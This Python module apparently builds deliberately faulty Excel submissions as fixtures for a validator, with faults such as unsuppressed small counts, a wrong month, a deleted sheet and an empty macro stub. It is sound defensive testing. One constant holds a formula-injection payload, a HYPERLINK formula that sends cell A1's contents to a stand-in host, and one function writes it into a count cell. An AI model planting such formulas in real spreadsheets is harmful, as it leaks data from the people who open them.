"""Files with a fault, one kind each: as they come when a workbook is filled by hand."""

from __future__ import annotations

import zipfile
from collections.abc import Callable, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Final

from lxml import etree

from doorstep.returns import COLUMNS, Figures, Suppressed, write
from doorstep.returns.layout import PARTITIONS, Kind, Spot
from doorstep.synthetic.programme_returns.rates import before

# kind -> how the file's name ends
FAULTS: Final[Mapping[str, str]] = {
    "below_six": ".xlsx",
    "macros": ".xlsm",
    "wrong_month": ".xlsx",
    "missing_sheet": ".xlsx",
    "not_a_workbook": ".xlsx",
    "typed_zero": ".xlsx",
    "does_not_add": ".xlsx",
    "formula_injection": ".xlsx",
}

_MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
_SUBMISSION = "xl/worksheets/sheet2.xml"
_STAMP = (1980, 1, 1, 0, 0, 0)  # the same bytes every time
_RUNS = '=HYPERLINK("https://nowhere.example/?"&A1,"106")'
Parts = dict[str, bytes]


def write_faulty(fault: str, figures: Figures, suppressed: Suppressed, path: Path) -> None:
    """Write a return with one fault of `FAULTS`."""
    if fault == "not_a_workbook":
        path.write_bytes(b"%PDF-1.7\n% a page was printed and scanned\n%%EOF\n")
    elif fault in _WRITTEN:
        _WRITTEN[fault](figures, suppressed, path)
    else:
        write(figures, suppressed, path)
        _rezip(path, lambda parts: _EDITED[fault](parts, suppressed))


def _below_six(figures: Figures, suppressed: Suppressed, path: Path) -> None:
    """Two small numbers are left in: the first and the last that should be hidden."""
    hidden = sorted(suppressed.hidden)
    write(figures, replace(suppressed, hidden=frozenset(hidden[1:-1])), path)


def _wrong_month(figures: Figures, suppressed: Suppressed, path: Path) -> None:
    """The month of the last return is still in its cell."""
    (earlier,) = before((figures.month,), 1)
    write(replace(figures, month=earlier), suppressed, path)


def _does_not_add(figures: Figures, suppressed: Suppressed, path: Path) -> None:
    """A number typed wrong: one age has nine more than all that is not printed elsewhere leaves for it."""
    line, ages = list(figures.counts["O6a"]), PARTITIONS[0]
    shown = [c for c in ages if ("O6a", c) not in suppressed.hidden]
    line[max(shown, key=line.__getitem__)] += line[0] - sum(line[c] for c in shown) + 9
    write(replace(figures, counts={**figures.counts, "O6a": tuple(line)}), suppressed, path)


_WRITTEN: Final[dict[str, Callable[[Figures, Suppressed, Path], None]]] = {
    "below_six": _below_six,
    "wrong_month": _wrong_month,
    "does_not_add": _does_not_add,
}


def _rezip(path: Path, edit: Callable[[Parts], None]) -> None:
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    edit(parts)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name, _STAMP), content, zipfile.ZIP_DEFLATED)


def _macros(parts: Parts, suppressed: Suppressed) -> None:
    """A program is inside, of no code at all."""
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    plain, active = b"spreadsheetml.sheet.main+xml", b"macroEnabled.main+xml"
    kinds = parts["[Content_Types].xml"].replace(b"openxmlformats-officedocument." + plain, b"ms-excel.sheet." + active)
    program = b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    parts["[Content_Types].xml"] = kinds.replace(b"<Override", program + b"<Override", 1)


def _missing_sheet(parts: Parts, suppressed: Suppressed) -> None:
    """The sheet with the figures was deleted before sending."""
    root = etree.fromstring(parts["xl/workbook.xml"])
    for sheet in root.iter(f"{_MAIN}sheet"):
        if sheet.get("name") == "SubmissionTemplate":
            sheet.getparent().remove(sheet)  # type: ignore[union-attr]
    parts["xl/workbook.xml"] = etree.tostring(root)


def _typed_zero(parts: Parts, suppressed: Suppressed) -> None:
    """Somebody typed 0 over the rate of a number that is hidden."""
    metric, column = min((name, c) for name, c in suppressed.hidden if name.startswith("O"))
    _type_over(parts, Spot(metric, Kind.RATE, column).address, "0")


def _formula_injection(parts: Parts, suppressed: Suppressed) -> None:
    """A text that another program would run stands where a count is typed."""
    _type_over(parts, Spot("O6b", Kind.COUNT, COLUMNS.index(("Age Group", "90+"))).address, _RUNS)


def _type_over(parts: Parts, address: str, text: str) -> None:
    root = etree.fromstring(parts[_SUBMISSION])
    cell = next(c for c in root.iter(f"{_MAIN}c") if c.get("r") == address)
    for child in list(cell):
        cell.remove(child)
    if "t" in cell.attrib:
        del cell.attrib["t"]
    if text.isdigit():
        etree.SubElement(cell, f"{_MAIN}v").text = text
    else:
        cell.set("t", "inlineStr")
        etree.SubElement(etree.SubElement(cell, f"{_MAIN}is"), f"{_MAIN}t").text = text
    parts[_SUBMISSION] = etree.tostring(root)


_EDITED: Final[dict[str, Callable[[Parts, Suppressed], None]]] = {
    "macros": _macros,
    "missing_sheet": _missing_sheet,
    "typed_zero": _typed_zero,
    "formula_injection": _formula_injection,
}
